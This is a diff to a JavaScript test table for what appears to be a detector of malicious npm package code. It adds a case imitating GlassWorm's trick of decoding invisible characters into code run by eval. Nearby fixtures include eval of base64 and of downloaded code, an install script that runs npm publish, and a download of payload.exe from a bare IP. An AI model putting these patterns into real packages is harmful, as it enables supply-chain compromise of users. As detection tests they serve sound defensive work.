@@ -287,6 +287,8 @@ describe('each rule at its edge (edits of real shapes)', () => {
     ['npm publish from an install script', "require('child_process').execSync('npm publish --access public')", ['publishes']],
     ['eval of base64', "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())", ['decoded-eval']],
     ['eval of a name assigned from atob', "const code = atob(s);\nnew Function(code)()", ['decoded-eval']],
+    // GlassWorm's decoding (2025): the code points of invisible characters, made bytes.
+    ['eval of code points made bytes', "eval(Buffer.from([...hidden].map((c) => c.codePointAt(0) - 0xe0100)).toString())", ['decoded-eval']],
     ['eval of a plain expression, decoding elsewhere', "const v = eval(expr);\nconst label = String.fromCharCode(65);", []],
     ['eval of what it downloads', "require('https').get(u, (r) => { let b = ''; r.on('data', (d) => (b += d)); r.on('end', () => eval(b)); })", ['remote-eval']],
     ['a download from a bare public IP address', "require('http').get('http://203.0.113.7/payload.exe', save)", ['download-exec']],
